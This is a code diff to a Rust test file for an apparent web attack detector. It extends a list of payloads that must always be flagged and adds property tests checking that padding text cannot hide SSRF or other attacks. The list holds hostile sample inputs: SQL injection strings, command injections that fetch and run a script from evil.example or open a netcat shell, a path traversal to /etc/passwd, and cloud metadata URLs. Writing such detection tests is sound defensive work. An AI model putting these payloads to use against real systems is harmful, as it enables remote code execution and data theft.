@@ -22,7 +22,7 @@ const PLACES: [Place; 8] = [
 ];
 
 /// Attacks that must be found whatever text surrounds them.
-const UNHIDEABLE: [(&str, &str); 22] = [
+const UNHIDEABLE: [(&str, &str); 23] = [
     ("sqli", "1' union select username, password from users-- "),
     ("sqli", "x' or '1'='1"),
     ("sqli", "x') or 7=7-- "),
@@ -37,6 +37,7 @@ const UNHIDEABLE: [(&str, &str); 22] = [
     ("rce", "; wget http://evil.example/x.sh"),
     ("rce", "| nc -e /bin/sh 10.0.0.1 4444"),
     ("rce", "&& curl http://evil.example/x"),
+    ("rce", "$(curl http://evil.example/a|sh)"),
     ("rce", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
     ("ptrav", "../../../../etc/passwd"),
     ("ssi", "<!--#exec cmd=\"id\"-->"),
@@ -145,6 +146,33 @@ proptest! {
         let mut signs = Vec::new();
         ENGINE.scan(format!("{url}{tail}").as_bytes(), Place::QueryValue, &mut signs);
         prop_assert!(signs.iter().any(|sign| sign.attack_type.code() == "ssrf"), "{url}: {signs:?}");
+    }
+
+    /// Words on one side of an address do not hide it; on both they are documentation.
+    #[test]
+    fn a_long_text_never_hides_cloud_metadata(words in "[a-z]{3,9}( [a-z]{2,11}){300,500}", behind in any::<bool>(), url in 0..3_usize) {
+        let url = ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/"][url];
+        let value = if behind { format!("{words} {url}") } else { format!("{url} {words}") };
+        let found = |value: &str| {
+            let mut signs = Vec::new();
+            ENGINE.scan(value.as_bytes(), Place::BodyValue, &mut signs);
+            signs.iter().any(|sign| sign.attack_type.code() == "ssrf")
+        };
+        prop_assume!(value.len() > 1600);
+        prop_assert!(found(&value), "{value}");
+        let between = format!("{words} {url} {words}");
+        prop_assert!(!found(&between), "{between}");
+    }
+
+    /// A phrase that is said again and again is no text.
+    #[test]
+    fn a_repeated_phrase_never_hides_an_attack(phrase in "[A-Z][a-z]{2,8}( [a-z]{2,9}){4,9}[.] ", count in 40..90_usize, behind in any::<bool>(), attack in 0..ARGUMENTS.len()) {
+        let (code, payload) = ARGUMENTS[attack];
+        let padding = phrase.repeat(count);
+        let value = if behind { format!("{padding}{payload}") } else { format!("{payload}{padding}") };
+        let mut signs = Vec::new();
+        ENGINE.scan(value.as_bytes(), Place::BodyValue, &mut signs);
+        prop_assert!(signs.iter().any(|sign| sign.attack_type.code() == code), "{payload:?}: {signs:?}");
     }
 
     /// Comments between words are blanks to a database, however long they are.
